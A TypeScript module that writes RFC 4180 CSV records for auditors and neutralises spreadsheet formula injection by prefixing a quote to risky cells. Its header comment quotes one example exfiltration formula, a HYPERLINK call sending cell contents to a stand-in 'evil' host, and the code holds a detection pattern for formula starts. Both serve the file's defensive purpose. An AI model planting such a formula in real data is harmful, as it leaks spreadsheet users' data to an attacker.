/**
 * CSV as auditors open it: RFC 4180 records (https://www.rfc-editor.org/rfc/rfc4180 §2), with
 * cells that a spreadsheet would run as a formula neutralised.
 *
 * Escaping (RFC 4180 §2.6, §2.7): a field holding a comma, a double quote, a CR or an LF is
 * enclosed in double quotes, and a double quote inside it is doubled. Records end with CRLF.
 *
 * Formula injection: Excel, LibreOffice Calc and Google Sheets evaluate a cell whose first
 * character is `=`, `+`, `-` or `@` (and a leading tab, CR or NUL in some of them) as a formula,
 * quoted or not; a reason such as `=HYPERLINK("https://evil/?"&A1)` would run when the export is
 * opened. Such a cell gets a leading `'`, which spreadsheets take as "text" (OWASP, CSV Injection:
 * https://owasp.org/www-community/attacks/CSV_Injection; ASVS 5.0 requirement 1.2.10). The `'` is
 * part of the value for any other reader: the JSON Lines export keeps values as they are.
 */

/** What a spreadsheet reads as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r\0]/;

/** The value, with a leading `'` when a spreadsheet would run it as a formula. */
export function neutralizeFormula(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

/** One field: null is an empty field; a value is neutralised, then quoted if it must be. */
export function csvField(value: string | null): string {
  if (value === null) return '';
  const v = neutralizeFormula(value);
  return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
}

/** One record, without its line end. */
export function csvRecord(values: readonly (string | null)[]): string {
  return values.map(csvField).join(',');
}

/** The line end of a record (RFC 4180 §2.1). */
export const CSV_EOL = '\r\n';
